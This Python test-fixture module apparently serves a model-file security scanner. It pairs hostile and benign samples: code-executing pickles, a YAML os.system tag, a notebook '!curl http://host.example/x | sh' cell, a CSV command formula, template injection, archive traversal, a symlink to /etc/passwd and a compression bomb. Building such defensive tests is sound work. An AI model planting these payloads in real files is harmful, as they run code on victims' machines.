"""Each technique that is known to be tried, a hostile file of it, and the honest one that looks most like it.

The table says in one place what the longer lists of samples beside it vary. Made here from texts; what would
be called only echoes, and nothing is ever loaded.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import Any

import numpy
import pyarrow

from tests.registry.checks import test_boosted_trees as trees
from tests.registry.checks import test_keras_models as keras
from tests.registry.checks import test_skops_models as skops
from tests.registry.parsers import graphs, tensors
from tests.registry.parsers.hdf5 import FILES
from tests.registry.pickles.gadgets import called, made, method, named, number
from tests.registry.pickles.hostile import PLAIN, RUNS, calls, npy, text, torch
from tests.registry.scanning.escapes import notebook

File = tuple[str, bytes]
Pair = tuple[File, File]
P = b"\x80\x02"
ESTIMATOR = named("sklearn.linear_model._base.LinearRegression")
DRAWS = "scipy.stats._discrete_distns.randint_gen"
DICT = pickle.dumps({"weights": [1.0, 2.0], "name": "a"}, 4)
TEMPLATE = "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}"
REACHES = "{{ messages.__class__.__mro__ }}"


def whole(body: bytes) -> bytes:
    return P + body + b"."


def bound(function: bytes, of: bytes) -> bytes:
    """A method as cloudpickle writes it."""
    kind = called("cloudpickle.cloudpickle._builtin_type", text("MethodType"))
    return b"\x80\x04" + kind + b"(" + function + of + b"tR."


def bound_twice(ends: bytes) -> bytes:
    """The same with a method that would run a text: the arguments (2) of `MethodType` (1) are kept, and the
    method (3) and its object (4)."""
    kind = called("cloudpickle.cloudpickle._builtin_type", text("MethodType")) + b"q\1"
    function = b"cscipy.stats._discrete_distns\nrandint_gen._construct_argparser\nq\3"
    return b"\x80\x04" + kind + b"(" + function + made(DRAWS, shapes=text("a")) + b"q\4tq\2R0" + ends + b"."


def attribute(name: str, ends: bytes) -> bytes:
    """An object with a function as an attribute, and what is done with the object then."""
    return whole(
        named("sklearn.linear_model._base.LinearRegression")
        + b")\x81}("
        + text(name)
        + named("numpy.log1p")
        + b"ub"
        + ends
    )


def both(name: str, hostile: bytes, honest: bytes) -> Pair:
    return (name, hostile), (name, honest)


def settings(name: str, hostile: Any, honest: Any) -> Pair:
    return both(name, json.dumps(hostile).encode(), json.dumps(honest).encode())


def zipped(*members: tuple[str, bytes], change: tuple[bytes, int, bytes] | None = None) -> bytes:
    """`change`: behind each such header, so many bytes on, these are put."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content)
    held = bytearray(sink.getvalue())
    if change:
        at = held.find(change[0])
        held[at + change[1] : at + change[1] + len(change[2])] = change[2]
    return bytes(held)


def tarred(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", content: bytes = b"text\n") -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, link
        entry.size = len(content) if kind == tarfile.REGTYPE else 0
        archive.addfile(entry, io.BytesIO(content))
    return sink.getvalue()


def sheet(*cells: str) -> bytes:
    sink = io.StringIO()
    csv.writer(sink).writerows([["name", "note"], ["a", "b"], *([cell, "1"] for cell in cells)])
    return sink.getvalue().encode()


def framed(pickled: bytes, size: int) -> bytes:
    return pickled[:2] + b"\x95" + struct.pack("<Q", size) + pickled[2:]


def lzma_alone(content: bytes) -> bytes:
    unusual = [{"id": lzma.FILTER_LZMA1, "lc": 1, "lp": 2, "pb": 1, "dict_size": 1 << 16}]
    return lzma.compress(content, lzma.FORMAT_ALONE, filters=unusual)


def small_window(content: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, 9)
    return machine.compress(content) + machine.flush()


def objects(pickled: bytes) -> bytes:
    return npy(pickled)


def held(content: bytes) -> bytes:
    """As a constant of a pickle."""
    return b"B" + struct.pack("<I", len(content)) + content


def archive(change: tuple[bytes, int, bytes]) -> bytes:
    return zipped(("a.txt", b"some text\n"), ("b.txt", b"more text\n"), change=change)


PICKLES: dict[str, Pair] = {
    "protocol 0": both("a.pkl", calls(protocol=0), pickle.dumps({"a": 1}, 0)),
    "protocol 1": both("a.pkl", calls(protocol=1), pickle.dumps({"a": 1}, 1)),
    "protocol 2": both("a.pkl", calls(protocol=2), pickle.dumps({"a": 1}, 2)),
    "protocol 3": both("a.pkl", calls(protocol=3), pickle.dumps({"a": b"1"}, 3)),
    "protocol 4": both("a.pkl", calls(protocol=4), pickle.dumps({"a": b"1"}, 4)),
    "protocol 5": both("a.pkl", calls(protocol=5), pickle.dumps({"a": bytearray(b"1")}, 5)),
    "joblib": both("a.joblib", RUNS, PLAIN),
    "gzip": both("a.pkl.gz", gzip.compress(RUNS), gzip.compress(PLAIN)),
    "bz2": both("a.pkl.bz2", bz2.compress(RUNS), bz2.compress(PLAIN)),
    "lzma": both("a.joblib", lzma.compress(RUNS), lzma.compress(PLAIN)),
    "lzma of unusual settings": both("a.bin", lzma_alone(RUNS), lzma_alone(PLAIN)),
    "zlib": both("a.joblib", zlib.compress(RUNS), zlib.compress(PLAIN)),
    "zlib of a small window": both("a.bin", small_window(RUNS), small_window(PLAIN)),
    "zstd": both(
        "a.pkl.zst",
        pyarrow.compress(RUNS, "zstd", asbytes=True),
        pyarrow.compress(PLAIN, "zstd", asbytes=True),
    ),
    "nested": both("a.pkl.gz", gzip.compress(gzip.compress(RUNS)), gzip.compress(gzip.compress(PLAIN))),
    "torch zip": both("a.pt", torch(RUNS), torch(DICT)),
    "torch zips in a row": both("__0_0.distcp", torch(RUNS) + torch(DICT), torch(DICT) + torch(DICT)),
    "torch legacy": both(
        "a.pt",
        pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + RUNS,
        pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"a": 1}, 2),
    ),
    "torch legacy tar": both("a.pt", tarred("pickle", content=RUNS), tarred("pickle", content=DICT)),
    "TorchScript": both(
        "a.pt",
        torch(PLAIN, **{"archive/code/a.py": b'def f(x):\n  torch.save(x, "/tmp/x")\n'}),
        torch(PLAIN, **{"archive/code/a.py": b"def f(x: Tensor) -> Tensor:\n  return torch.relu(x)\n"}),
    ),
    "npy of objects": both("a.npy", objects(RUNS), objects(pickle.dumps(numpy.array([None, 1], object)))),
    "npz of objects": both(
        "a.npz", zipped(("a.npy", objects(RUNS))), zipped(("a.npy", objects(pickle.dumps([None]))))
    ),
    "member of a zip": both("a.zip", zipped(("notes", RUNS)), zipped(("notes", b"to be read\n"))),
    "member of a tar": both("a.tar", tarred("notes", content=RUNS), tarred("notes", content=b"to be read\n")),
    "several streams": both("a.pkl", PLAIN + RUNS, PLAIN + DICT),
    "trailing bytes": both("a.pkl", PLAIN + bytes(9) + RUNS, PLAIN + bytes(9)),
    "name through attributes": both(
        "a.pkl",
        b"\x80\x04\x8c\x07sklearn\x8c\x0ebase.os.system\x93\x8c\x04echo\x85R.",
        b"\x80\x04\x8c\x0csklearn.base\x8c\rBaseEstimator\x93)\x81.",
    ),
    "method by cloudpickle": both(
        "a.pkl",
        bound(b"cpathlib\nPosixPath.unlink\n", called("pathlib.PosixPath", text("x"))),
        bound(b"cscipy.stats._discrete_distns\nrandint_gen._entropy\n", made(DRAWS, shapes=text("a"))),
    ),
    "method that is bound more often than it is named": both(
        "a.pkl", bound_twice(b"h\1h\2R0h\3(h\4K\1tR"), bound_twice(b"h\1h\3h\4\x86R")
    ),
    "method and its object, once more": both(
        "a.pkl", bound_twice(b"ccopyreg\n__newobj__\nh\2R"), bound_twice(b"h\1h\3h\4\x86R")
    ),
    "state of its own making": both("a.pkl", attribute("__setstate__", b"K\1b"), attribute("state", b"}b")),
    "list of its own making": both("a.pkl", attribute("append", b"K\1a"), attribute("append", b"")),
    "state that a call fills": both(
        "a.pkl",
        whole(ESTIMATOR + b")\x81" + called("collections.OrderedDict", text("a") + b"K\1\x86\x85") + b"b"),
        whole(ESTIMATOR + b")\x81" + called("collections.OrderedDict") + text("a") + b"K\1sb"),
    ),
    "prefix of a known module": both(
        "a.pkl", whole(called("numpy.lib.npyio.DataSource", text("x"))), whole(named("numpy.log1p"))
    ),
    "EXT": both("a.pkl", whole(b"\x82\x01)R"), whole(b"K\x01")),
    "persistent id": both(
        "a.pkl",
        whole(text("https://host.example/x") + b"Q"),
        whole(b"(" + text("storage") + named("torch.FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"),
    ),
    "INST": both("a.pkl", b"(S'echo'\nios\nsystem\n.", b"(icollections\nOrderedDict\n."),
    "OBJ": both(
        "a.pkl", whole(b"(" + named("os.system") + text("echo") + b"o"), whole(b"(" + ESTIMATOR + b"o")
    ),
    "BUILD": both("a.pkl", whole(made("fraudkit.Loader", path=text("x"))), whole(ESTIMATOR + b")\x81}b")),
    "BUILD of a class": both(
        "a.pkl", whole(ESTIMATOR + b"}" + text("fit") + b"Nsb"), whole(ESTIMATOR + b")\x81}b")
    ),
    "state that is run": both(
        "a.pkl",
        whole(made("scipy.stats._continuous_distns.norm_gen", _parse_arg_template=text("print(1)"))),
        whole(made("scipy.stats._continuous_distns.norm_gen", shapes=text("a"))),
    ),
    "NEWOBJ_EX": both(
        "a.pkl",
        b"\x80\x04" + named("subprocess.Popen") + text("echo") + b"\x85}\x92.",
        b"\x80\x04" + ESTIMATOR + b")}\x92.",
    ),
    "torch loads bytes": both(
        "a.pkl",
        whole(called("torch.storage._load_from_bytes", held(torch(RUNS)))),
        whole(called("torch.storage._load_from_bytes", held(torch(PLAIN)))),
    ),
    "joblib loads": both("a.pkl", calls("joblib.load"), whole(text("joblib.load"))),
    "numpy loads": both("a.pkl", calls("numpy.load"), whole(text("numpy.load"))),
    "pandas loads": both("a.pkl", calls("pandas.read_pickle"), whole(text("pandas.read_pickle"))),
    "FRAME beyond the end": both(
        "a.pkl", framed(calls(protocol=3), 1 << 40), framed(pickle.dumps(1, 3), len(pickle.dumps(1, 3)) - 2)
    ),
    "memo that is empty": both("a.pkl", whole(b"h\x07"), whole(b"K\x01q\x070h\x07")),
    "bad code behind the call": both("a.pkl", RUNS[:-1] + b"\xff", PLAIN),
    "billion laughs": both(
        "a.pkl", whole(b"K\x01" + b"".join(b"q\x000h\x00h\x00\x86" for _ in range(60))), whole(b"K\x012\x86")
    ),
    "huge LONG4": both(
        "a.pkl", whole(b"\x8b" + struct.pack("<i", 1 << 30)), whole(b"\x8b\x01\x00\x00\x00\x07")
    ),
    "huge BYTEARRAY8": both(
        "a.pkl",
        b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b".",
        pickle.dumps(bytearray(b"abc"), 5),
    ),
    "list of a range": both(
        "a.pkl",
        whole(called("builtins.list", called("builtins.range", number(1 << 40)))),
        whole(called("builtins.range", number(1 << 20))),
    ),
    "deep nesting": both("a.pkl", whole(b"(" * 20_000 + b"t" * 20_000), whole(b"(" * 50 + b"t" * 50)),
    "class of another size": both(
        "a.pkl",
        whole(
            called(
                "sklearn._loss._loss.__pyx_unpickle_CyHalfTweedieLoss", named("builtins.object"), b"K\x01N"
            )
        ),
        whole(
            called(
                "sklearn._loss._loss.__pyx_unpickle_CyHalfTweedieLoss",
                named("sklearn._loss._loss.CyHalfTweedieLoss"),
                b"K\x01N",
            )
        ),
    ),
    "method of something made": both(
        "a.pkl",
        whole(b"]" + method(called("pathlib.PosixPath", text("x")), "unlink") + b"a"),
        whole(b"]" + method(ESTIMATOR + b")\x81", "predict") + b"a"),
    ),
    "a team's own class": both(
        "a.pkl", whole(named("fraudkit.Model") + b")\x81"), whole(ESTIMATOR + b")\x81")
    ),
}

LOCAL, CENTRAL = b"PK\3\4", b"PK\1\2"
W = {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}


def arrays(data: bytes, *offsets: tuple[int, int]) -> bytes:
    """A safetensors file of bytes that lie there."""
    head = {
        f"w{place}": {"dtype": "U8", "shape": [end - begin], "data_offsets": [begin, end]}
        for place, (begin, end) in enumerate(offsets)
    }
    return tensors.safetensors(head, data)


STRUCTURES: dict[str, Pair] = {
    "safetensors: size of the header": both(
        "a.safetensors", tensors.safetensors(length=1 << 50), tensors.safetensors()
    ),
    "safetensors: the same key twice": both(
        "a.safetensors",
        tensors.safetensors(
            b'{"a":' + json.dumps(W).encode() + b',"a":' + json.dumps(W).encode() + b"}", bytes(4)
        ),
        tensors.safetensors(b'{"a":' + json.dumps(W).encode() + b"}", bytes(4)),
    ),
    "safetensors: gap": both(
        "a.safetensors", arrays(bytes(9), (0, 4), (5, 9)), arrays(bytes(8), (0, 4), (4, 8))
    ),
    "safetensors: overlap": both(
        "a.safetensors", arrays(bytes(6), (0, 4), (2, 6)), arrays(bytes(8), (0, 4), (4, 8))
    ),
    "safetensors: bounds": both("a.safetensors", arrays(bytes(4), (0, 9)), arrays(bytes(4), (0, 4))),
    "safetensors: trailing data": both("a.safetensors", arrays(bytes(9), (0, 4)), arrays(bytes(4), (0, 4))),
    "GGUF: counts": both("a.gguf", tensors.gguf(counts=(1, 1 << 60)), tensors.gguf()),
    "GGUF: sizes": both(
        "a.gguf", tensors.gguf(tensors=(tensors.tensor(shape=(1 << 33, 1 << 33)),)), tensors.gguf()
    ),
    "GGUF: alignment": both(
        "a.gguf", tensors.gguf((tensors.key("general.alignment", 4, bytes(4)),)), tensors.gguf()
    ),
    "GGUF: template": both("a.gguf", tensors.with_template(REACHES), tensors.with_template(TEMPLATE)),
    "ONNX: path of external data": both(
        "a.onnx",
        graphs.onnx(graphs.node(), tensors=(graphs.tensor(4, external=(("location", "../../x"),)),)),
        graphs.onnx(graphs.node(), tensors=(graphs.tensor(4, external=(("location", "a.onnx_data"),)),)),
    ),
    "ONNX: custom domain": both(
        "a.onnx", graphs.onnx(graphs.node("PyOp", "ai.onnx.contrib")), graphs.onnx(graphs.node("Relu"))
    ),
    "ONNX: operator": both("a.onnx", graphs.onnx(graphs.node("Evil", "")), graphs.onnx(graphs.node("Gelu"))),
    "ONNX: size": both(
        "a.onnx",
        graphs.onnx(graphs.node(), tensors=(graphs.tensor(1 << 40, 1 << 40, raw=bytes(4)),)),
        graphs.onnx(graphs.node(), tensors=(graphs.tensor(1, raw=bytes(4)),)),
    ),
    **{
        f"Keras: {name}": ((f"a.{ending}", keras.keras(hostile)), (f"a.{ending}", keras.keras(honest)))
        for ending in ("keras",)
        for name, hostile, honest in (
            ("Lambda", keras.HOSTILE["lambda"][0], keras.HONEST["sequential"]),
            ("registered name", keras.HOSTILE["registered lambda"][0], keras.HONEST["functional"]),
            ("module", keras.HOSTILE["module"][0], keras.HONEST["operations"]),
            ("nested configuration", keras.HOSTILE["nested lambda"][0], keras.HONEST["nested"]),
            ("vocabulary", keras.HIGH["vocabulary"][0], keras.HONEST["words"]),
        )
    },
    "HDF5: external link": both("a.h5", FILES["link_earliest"], FILES["plain_earliest"]),
    "HDF5: external storage": both("a.h5", FILES["storage_latest"], FILES["plain_latest"]),
    "HDF5: Lambda": both("a.h5", FILES["lambda_latest"], FILES["model_latest"]),
    "SavedModel: PyFunc": both(
        "saved_model.pb",
        graphs.saved_model(graphs.graph_def(graphs.operation("PyFunc"))),
        graphs.saved_model(graphs.graph_def(graphs.operation("MatMul"))),
    ),
    "SavedModel: file operation": both(
        "saved_model.pb",
        graphs.saved_model(graphs.graph_def(graphs.operation("WriteFile"))),
        graphs.saved_model(graphs.graph_def(graphs.operation("Relu"))),
    ),
    "XGBoost: JSON": both("a.json", trees.with_tree(left_children=trees.first(99)), trees.saved("json")),
    "XGBoost: UBJ": both("a.ubj", trees.saved("ubj")[:40] + b"S#L" + b"\x7f" * 8, trees.saved("ubj")),
    "LightGBM: text": both(
        "a.txt",
        trees.text_of_lightgbm().replace(b"left_child=", b"left_child=99 ", 1),
        trees.text_of_lightgbm(),
    ),
    "skops": both(
        "a.skops",
        skops.skops_file(skops.node("os", "system", "FunctionNode")),
        skops.skops_file(skops.node("builtins", "list", "ListNode", content=[])),
    ),
    "YAML tag": both("a.yaml", b"a: !!python/object/apply:os.system [echo]\n", b"a: !!str text\n"),
    "auto_map": settings(
        "config.json",
        {"auto_map": {"AutoModel": "modeling.Net"}},
        {"model_type": "bert", "architectures": ["Net"]},
    ),
    "trust_remote_code": settings(
        "config.json", {"trust_remote_code": True, "architectures": ["X"]}, {"trust_remote_code": False}
    ),
    "Hydra": both("a.yaml", b"m: {_target_: os.system}\n", b"m: {_target_: torch.nn.Linear}\n"),
    "gin": both("a.gin", b"import os\nf.run = @os.system\n", b"import seqio\nf.rate = @optax.constant\n"),
    "chat template": settings(
        "tokenizer_config.json", {"chat_template": REACHES}, {"chat_template": TEMPLATE}
    ),
    "template in another file": both("readme.txt", REACHES.encode(), TEMPLATE.encode()),
    "template in a page about the model": both(
        "README.md",
        b"# A model\n" + REACHES.encode(),
        b"# A model\nUnsafe:\n```\n" + REACHES.encode() + b"\n```\n",
    ),
    "tokenizer": settings(
        "tokenizer.json",
        {"model": {"vocab": {}}, "chat_template": REACHES},
        {"model": {"type": "BPE", "vocab": {"__class__": 1}, "merges": []}, "added_tokens": []},
    ),
    "notebook": both("a.ipynb", notebook("!curl http://host.example/x | sh"), notebook("print(1)")),
    "source": both("a.py", b"import os\nos.system('echo')\n", b"import math\n\nx = math.sqrt(2)\n"),
    "formula in a table": both("a.csv", sheet("=cmd|'/C calc'!A0"), sheet("-1.5", "=sum", "+49 1")),
    "program": both("model.bin", b"\x7fELF\2\1\1" + bytes(57), bytes(64)),
    "archive: traversal": both("a.zip", zipped(("../../x.txt", b"a\n")), zipped(("a..b/x.txt", b"a\n"))),
    "archive: absolute name": both("a.tar", tarred("/etc/x.txt"), tarred("etc/x.txt")),
    "archive: link": both("a.tar", tarred("x", tarfile.SYMTYPE, "/etc/passwd"), tarred("x.txt")),
    "archive: device": both("a.tar", tarred("x", tarfile.CHRTYPE), tarred("x/", tarfile.DIRTYPE)),
    "archive: bomb": both("a.txt.gz", gzip.compress(bytes(80 << 20), 9), gzip.compress(b"text\n" * 5000)),
    "archive: the same member twice": both(
        "a.zip", zipped(("a.txt", b"x\n"), ("./a.txt", b"y\n")), zipped(("a.txt", b"x\n"), ("b.txt", b"y\n"))
    ),
    "archive: header and directory differ": both(
        "a.zip", archive((LOCAL, 30, b"z")), zipped(("a.txt", b"some text\n"))
    ),
    "archive: checksum": both(
        "a.zip", archive((CENTRAL, 16, b"\1\2\3\4")), zipped(("a.txt", b"some text\n"))
    ),
    "archive: flag": both("a.zip", archive((CENTRAL, 8, b"\1\0")), zipped(("a.txt", b"some text\n"))),
    "archive: encrypted": both(
        "a.zip",
        zipped(("a.txt", b"some text\n"), change=(LOCAL, 6, b"\1\0")),
        zipped(("a.txt", b"some text\n")),
    ),
    "any other format": both("model.xyz", bytes(range(7, 250)) * 2, b"a text about the model\n"),
    "name that hides what a file is": both("weights.txt", RUNS, b"a text\n"),
}
